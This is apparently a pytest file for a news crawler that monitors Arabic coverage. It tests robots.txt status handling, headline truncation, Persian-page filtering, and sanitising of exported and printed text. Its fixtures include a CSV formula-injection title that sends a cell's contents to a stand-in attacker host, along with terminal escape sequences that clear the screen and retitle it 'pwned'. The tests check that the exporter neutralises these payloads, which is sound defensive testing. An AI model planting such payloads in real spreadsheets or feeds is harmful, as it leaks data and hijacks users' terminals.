"""The smaller hostile inputs: robots.txt answering 5xx, formula and escape injection in what
people read, a 96,000-character headline, and Arabic-script pages that are not Arabic."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from fixture_site import seed_site
from test_crawl_e2e import export, rasad, write_config
from test_extract import HTML, PARAGRAPHS, PERSIAN, page

from monitor.cli import main
from monitor.deliver.export import csv_cell, printable
from monitor.extract.article import extract_article
from monitor.extract.metadata import MAX_TITLE_CHARS, cap_title
from monitor.judge.relevance import judge
from monitor.judge.rescore import rescore
from monitor.judge.seeds import load_seeds
from monitor.models import FeedEntry
from monitor.sources.robots import (
    DISALLOW_ALL,
    UNREACHABLE_RETRY_S,
    robots_max_age,
    robots_rules,
)
from store.base import FeedPoll, StoredArticle
from store.sqlite import SQLiteStore

NOW = datetime(2026, 11, 21, 12, 0, tzinfo=UTC)
HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"انقر") \x1b[2J\x1b]0;pwned\x07بوتين\x9b31m'


# ── robots.txt answering 5xx ─────────────────────────────────────────────────────────────────


@pytest.mark.parametrize(
    ("status", "body", "rules"),
    [
        (200, b"User-agent: *\nDisallow: /private/\n", b"User-agent: *\nDisallow: /private/\n"),
        (404, b"<html>not found</html>", b""),  # no robots.txt: everything allowed
        (403, b"User-agent: *\nDisallow: /\n", b""),  # RFC 9309: 4xx is "unavailable"
        (500, b"", DISALLOW_ALL),  # "unreachable": assume complete disallow
        (503, b"User-agent: *\nAllow: /\n", DISALLOW_ALL),
        (429, b"", DISALLOW_ALL),
    ],
)
def test_robots_rules_follow_rfc_9309(status: int, body: bytes, rules: bytes) -> None:
    assert robots_rules(status, body) == rules


def test_an_unreachable_robots_txt_is_asked_again_soon() -> None:
    assert robots_max_age(503, 86400) == UNREACHABLE_RETRY_S <= 900
    assert robots_max_age(200, 86400) == 86400
    assert robots_max_age(404, 86400) == 86400
    assert robots_max_age(500, 60) == 60  # never longer than configured


@pytest.mark.slow
def test_a_robots_txt_answering_503_allows_nothing_until_it_answers(tmp_path: Path) -> None:
    with seed_site() as site:
        config = write_config(tmp_path, site)
        site.set_response("/robots.txt", 503, "Service Unavailable", content_type="text/plain")
        first = rasad("crawl", "--config", str(config))
        assert "Traceback" not in first.stderr
        assert site.requests("/robots.txt")
        assert site.article_requests() == [], "a 503 robots.txt must not be read as allow-all"
        assert not site.requests("/feed/") and not site.requests("/atom.xml")
        assert first.returncode == 1, first.stdout  # nothing was polled: the source failed

        # kept for minutes, not a day: the next crawl soon after does not ask again
        site.clear_requests()
        rasad("crawl", "--config", str(config))
        assert not site.requests("/robots.txt") and site.article_requests() == []

        # ten minutes later the host answers again: robots.txt is fetched, the pages too
        (db,) = tmp_path.rglob("*.db")
        with sqlite3.connect(db) as raw:
            stored = raw.execute("SELECT status FROM robots").fetchall()
            assert stored and all(row[0] == 503 for row in stored)
            then = (datetime.now(UTC) - timedelta(seconds=UNREACHABLE_RETRY_S + 60)).isoformat()
            raw.execute("UPDATE robots SET fetched = ?", (then,))
        raw.close()
        site.clear_response("/robots.txt")
        site.clear_requests()
        third = rasad("crawl", "--force", "--config", str(config))  # past the feeds' backoff
        assert third.returncode == 0, third.stdout + third.stderr
        assert site.requests("/robots.txt") and site.article_requests()
        assert export(config, "--all"), "the pages were stored once robots.txt answered"


# ── formula and escape injection in what people read ─────────────────────────────────────────


def test_printable_removes_escape_sequences_and_controls_but_keeps_text() -> None:
    assert printable("أ\x1b[31mحمر\x1b[0m\tب\nج") == "أحمر\tب\nج"
    assert printable("a\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\ b") == "alink b"
    assert printable("x\x00\x07\x08\x7f\x85\x9b2Jy") == "xy"
    assert printable("\u202eevil\u202c") == "evil"  # bidi override: spoofed text
    assert printable("\u200fنص\u200e") == "\u200fنص\u200e"  # marks Arabic needs stay


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t"])
def test_csv_cells_are_never_formulas(start: str) -> None:
    assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell("بوتين = كيم") == "بوتين = كيم"  # only the first character matters
    assert csv_cell(0.75) == 0.75 and csv_cell(None) is None
    assert csv_cell(["=a", "b"]) == "'=a; b"


@pytest.fixture
def hostile_store(tmp_path: Path) -> Path:
    db = tmp_path / "rasad.db"
    store = SQLiteStore(db)
    seed = load_seeds()[0]
    store.add(
        StoredArticle(
            url="http://127.0.0.1/evil",
            canonical_url="http://127.0.0.1/evil",
            source="site",
            title=HOSTILE_TITLE,
            text=f"{seed.text}\n\x1b[31mسطر ملون\x1b[0m",
            status="new",
            fetched=NOW,
        )
    )
    store.close()
    config = tmp_path / "rasad.toml"
    config.write_text(f'[store]\nurl = "sqlite:///{db}"\n', encoding="utf-8")
    return config


def test_csv_export_neutralises_formulas_and_escapes(
    hostile_store: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export", "--format", "csv", "-c", str(hostile_store)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x9b" not in out and "\x07" not in out
    (row,) = list(csv.DictReader(io.StringIO(out)))
    assert row["title"].startswith("'=HYPERLINK(")
    assert row["title"].endswith(") بوتين")  # the 8-bit CSI went with its parameters
    assert "سطر ملون" in row["text"] and "[31m" not in row["text"]


def test_json_export_keeps_the_data_with_every_control_escaped(
    hostile_store: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["export", "-c", str(hostile_store)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x9b" not in out and "\x07" not in out
    assert "\\u001b[2J" in out and "\\u009b" in out
    assert json.loads(out)["title"] == HOSTILE_TITLE  # the data itself is unchanged


def test_search_text_output_shows_no_escape_sequences(
    hostile_store: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["search", "بوتين", "-c", str(hostile_store)]) == 0
    out = capsys.readouterr().out
    assert "HYPERLINK" in out
    assert "\x1b" not in out and "\x9b" not in out and "[2J" not in out and "pwned" not in out


def test_search_json_escapes_controls(
    hostile_store: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["search", "بوتين", "--format", "json", "-c", str(hostile_store)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x9b" not in out
    assert json.loads(out)[0]["title"] == HOSTILE_TITLE


# ── a 96,000-character headline ──────────────────────────────────────────────────────────────


def test_a_huge_feed_headline_is_cut_at_a_word() -> None:
    words = ("بوتين يستقبل كيم جونغ أون في موسكو " * 3000).strip()
    assert len(words) > 96_000
    article = extract_article(
        page(PARAGRAPHS, title="زيارة"),
        "https://example.org/news/1",
        HTML,
        FeedEntry(url="https://example.org/news/1", title=words),
    )
    assert len(article.title) <= MAX_TITLE_CHARS and article.title.endswith("…")
    kept = article.title.removesuffix("…")
    assert words.startswith(kept) and words[len(kept)] == " "  # cut between words


def test_a_huge_page_title_is_cut_too() -> None:
    article = extract_article(
        page(PARAGRAPHS, title="س" * 96_000), "https://example.org/news/2", HTML
    )
    assert len(article.title) == MAX_TITLE_CHARS and article.title.endswith("…")


def test_cap_title_leaves_real_headlines_alone() -> None:
    headline = "بوتين وكيم يوقعان معاهدة الشراكة الاستراتيجية الشاملة في بيونغ يانغ"
    assert cap_title(headline) == headline
    assert cap_title("كلمة " * 200, limit=50) == ("كلمة " * 9).strip() + "…"


# ── Arabic-script pages that are not Arabic ──────────────────────────────────────────────────


def _persian_page_about_the_relationship() -> tuple[str, str]:
    """A Persian page (Persian title and paragraphs) that quotes an Arabic on-topic report."""
    title = "دیدار پوتین و کیم جونگ اون در پیونگ یانگ"
    text = "\n".join([*PERSIAN, *PARAGRAPHS, *PERSIAN])
    return title, text


def test_a_persian_page_about_putin_and_kim_is_not_new_arabic_coverage() -> None:
    title, text = _persian_page_about_the_relationship()
    body = page(text.split("\n"), title=title, lang="fa")
    article = extract_article(body, "https://example.ir/news/1", HTML)
    assert article.language == "fa"
    as_arabic = judge(article.title, article.text, language="ar")
    assert as_arabic.on_topic, "the case must be on topic by its words alone"
    verdict = judge(article.title, article.text, language=article.language)
    assert not verdict.on_topic
    assert verdict.score == as_arabic.score  # scored all the same, kept out by language
    assert verdict.matched[0] == "language:fa" and verdict.details["wrong_language"] == 1.0
    assert judge(article.title, article.text, language="fa", languages=("ar", "fa")).on_topic
    assert judge(article.title, article.text, language="fa", languages=()).on_topic


def test_without_a_language_the_script_decides() -> None:
    title, text = _persian_page_about_the_relationship()
    assert not judge(title, text).on_topic  # Persian letters: fa
    seed = load_seeds()[0]
    assert judge(seed.title, seed.text).on_topic  # Arabic stays on topic
    urdu = f"{seed.text}\n" + "یہ خبر ہے کہ ٹرین ڈبے کے ساتھ بڑی تیزی سے آئی اور وہ گئے " * 20
    assert not judge(seed.title, urdu).on_topic


def test_rescore_moves_a_stored_persian_article_out_of_new(tmp_path: Path) -> None:
    title, text = _persian_page_about_the_relationship()
    store = SQLiteStore(tmp_path / "rasad.db")
    store.add(
        StoredArticle(
            url="http://127.0.0.1/fa/1",
            canonical_url="http://127.0.0.1/fa/1",
            source="site",
            title=title,
            text=text,
            status="new",
            fetched=NOW,
            language="fa",
        )
    )
    from monitor.judge.relevance import load_lexicon

    report = rescore(store, load_lexicon(), 0.5)
    assert [(c.before, c.after) for c in report.changes] == [("new", "off_topic")]
    stored = store.get("http://127.0.0.1/fa/1")
    assert stored is not None and stored.status == "off_topic" and stored.language == "fa"
    again = rescore(store, load_lexicon(), 0.5, languages=("ar", "fa"))
    assert [(c.before, c.after) for c in again.changes] == [("off_topic", "new")]
    store.close()


def test_feed_errors_servers_wrote_reach_the_terminal_clean(
    hostile_store: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db = hostile_store.parent / "rasad.db"
    store = SQLiteStore(db)
    store.record_poll(
        FeedPoll(
            source="site",
            feed_url="http://127.0.0.1/rss",
            polled=NOW,
            ok=False,
            http_status=500,
            error="HTTP 500 \x1b]0;pwned\x07\x1b[2Jإغلاق",
        ),
        [],
    )
    store.close()
    config = hostile_store.parent / "sites.toml"
    config.write_text(
        hostile_store.read_text(encoding="utf-8")
        + '\n[[sources]]\nname = "site"\nfeeds = ["http://127.0.0.1/rss"]\n',
        encoding="utf-8",
    )
    assert main(["sources", "-c", str(config)]) == 0
    out = capsys.readouterr().out
    assert "HTTP 500" in out and "إغلاق" in out
    assert "\x1b" not in out and "\x07" not in out and "pwned" not in out
    assert main(["sources", "--format", "json", "-c", str(config)]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\\u001b" in out
